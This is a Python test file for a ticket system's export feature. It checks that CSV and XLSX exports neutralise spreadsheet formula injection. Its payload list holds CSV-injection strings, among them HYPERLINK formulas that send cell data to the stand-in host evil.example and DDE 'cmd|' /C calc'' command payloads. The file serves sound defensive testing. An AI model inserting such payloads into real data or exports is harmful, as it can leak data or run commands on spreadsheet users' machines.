"""Issue 15, finding 1: ticket exports carry no formula. Tickets whose citizen text starts with = + - @ (or a
tab, CR, leading spaces, a full-width ＝) are created over HTTP on the real daemon; the supervisor's CSV has
every such cell neutralised by a leading quote (OWASP "CSV injection"), and the XLSX, read back with
openpyxl, holds them as strings (data_type 's'), never formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from tests.security_kit import client, daemon, record_of_call, ticket

PAYLOADS = [
    "=1+1",
    '+1+HYPERLINK("http://evil.example/?x=1","点我")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=0+HYPERLINK("http://evil.example/?n="&J2,"详情")',
    "\t=1+1",
    "\r=2+2",
    "   =3+3",
    "＝4+4",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝")


async def test_exports_neutralise_every_formula(tmp_path: Path) -> None:
    async with daemon(tmp_path) as pair:
        record_of_call(pair, "call-x", name="=HYPERLINK(\"http://evil.example\")")
        async with client(pair, "1001") as (agent, h):
            made = [await ticket(agent, h, content=p, title=p[:40]) for p in PAYLOADS]
            made.append(await ticket(agent, h, content="路灯不亮", call_id="call-x"))  # caller name from the call
            made.append(await ticket(agent, h, content="-5度，停暖三天"))  # plain text starting with a minus
        numbers = [t["number"] for t in made]
        async with client(pair, "lead") as (lead, _):
            period = {"since": "2026-01-01", "until": "2026-12-31"}
            r = await lead.get("/api/tickets/export", params={**period, "format": "csv"})
            assert r.status_code == 200, r.text
            rows = {row["number"]: row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"),
                                                                             newline=""))}
            x = await lead.get("/api/tickets/export", params={**period, "format": "xlsx"})
            assert x.status_code == 200
    assert set(numbers) <= set(rows)
    for number, payload in zip(numbers, PAYLOADS, strict=False):
        assert rows[number]["content"] == "'" + payload, (payload, rows[number]["content"])
        assert rows[number]["title"] == "'" + payload[:40]
    assert rows[numbers[-2]]["caller_name"].startswith("'=")  # a caller-ID name is citizen text too
    assert rows[numbers[-1]]["content"] == "'-5度，停暖三天"
    for row in rows.values():  # no cell of any column starts a formula
        for value in row.values():
            assert not value.lstrip(" ").startswith(FORMULA_STARTS), value

    sheet = load_workbook(io.BytesIO(x.content)).active
    assert sheet is not None
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    content_col = header.index("content")
    found = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)  # never 'f'
            assert not str(cell.value).lstrip(" ").startswith(FORMULA_STARTS), cell.value
        found[row[0].value] = row[content_col].value
    for number, payload in zip(numbers, PAYLOADS, strict=False):
        assert found[number] == "'" + payload.replace("\r", "\n")  # XML keeps no bare CR
